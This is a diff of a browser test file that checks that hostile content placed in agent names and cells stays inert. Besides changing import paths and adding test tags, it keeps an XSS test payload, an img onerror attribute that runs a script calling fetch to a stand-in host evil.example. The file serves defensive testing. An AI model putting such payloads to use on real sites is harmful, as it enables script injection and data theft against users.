@@ -1,7 +1,10 @@
+// @module-tag P-194
+
 import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { drivesBrowser } from '../../../../scripts/drives-browser.mjs';
+import { drivesBrowser } from '../../../../scripts/tests/drives-browser.mjs';
+import { findChromium } from '../../../../scripts/tests/installed-chromium.mjs';
 import type { Output } from '../../src/kernel/kernel.js';
-import { findChromium, Stage } from './support/browser.js';
+import { Stage } from './support/browser.js';
 
 const script = 'alert(1);window.pwned=true;fetch("http://evil.example/x")';
 const evilHtml = `
@@ -27,7 +30,7 @@ describe('hostile content', () => {
   afterEach(() => stage.clear());
   afterAll(() => stage.close());
 
-  it('is inert: no dialog, no request, no script, nothing over the page', drivesBrowser, async () => {
+  it('is inert: no dialog, no request, no script, nothing over the page', { ...drivesBrowser, tags: ['P-108'] }, async () => {
     const host = await stage.host({
       agents: [{ id: 'x', name: `<img src=x onerror='${script}'>` }],
       cells: [
